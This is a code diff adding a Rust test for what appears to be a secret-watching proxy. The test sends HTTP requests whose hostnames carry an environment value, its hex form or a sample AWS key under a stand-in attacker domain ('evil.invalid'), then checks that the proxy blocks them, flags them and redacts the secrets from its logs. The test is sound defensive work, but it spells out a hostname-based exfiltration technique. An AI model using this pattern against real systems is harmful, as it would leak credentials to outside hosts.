@@ -132,6 +132,35 @@ fn files_are_watched_by_their_content_their_values_and_their_leaves() {
     values.iter().for_each(|value| assert_nowhere(&proxy, value));
 }
 
+/// It stood whole in `dest`, and in each line of the log that named the host.
+#[test]
+fn a_value_in_a_hosts_name_is_written_nowhere() {
+    let value = "Label-EXAMPLE-12";
+    let settings = json!({ "watch_env": ["APP_LABEL"], "connect_timeout_secs": 1 });
+    let proxy = Setup::new(settings).environment("APP_LABEL", value).start();
+    let id = sample("aws_access_key").text();
+    let hex = HEXLOWER.encode(value.as_bytes());
+    for label in [value, &hex, &id] {
+        let host = format!("{label}.evil.invalid");
+        let response = proxy.exchange(format!(
+            "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
+        ));
+        assert_eq!(response.status(), 502);
+    }
+    let findings = proxy.settled_findings();
+    let count = |pattern| findings.iter().filter(|found| found.pattern == pattern).count();
+    // Each in the target and in the Host field.
+    assert_eq!((count("known_value"), count("aws_access_key")), (4, 2), "{findings:?}");
+    assert!(
+        findings.iter().all(|found| found.dest.ends_with("....evil.invalid:80")),
+        "{findings:?}"
+    );
+    proxy.wait_for_log(&["WARNING", "akia....evil.invalid:80"]);
+    for secret in [value, &value.to_lowercase(), &hex, &id, &id.to_lowercase()] {
+        assert_nowhere(&proxy, secret);
+    }
+}
+
 #[test]
 fn what_cannot_be_watched_for_is_said_without_its_value() {
     let proxy = Setup::new(json!({ "watch_env": ["SHORT_ONE", "ABSENT_ONE"] }))
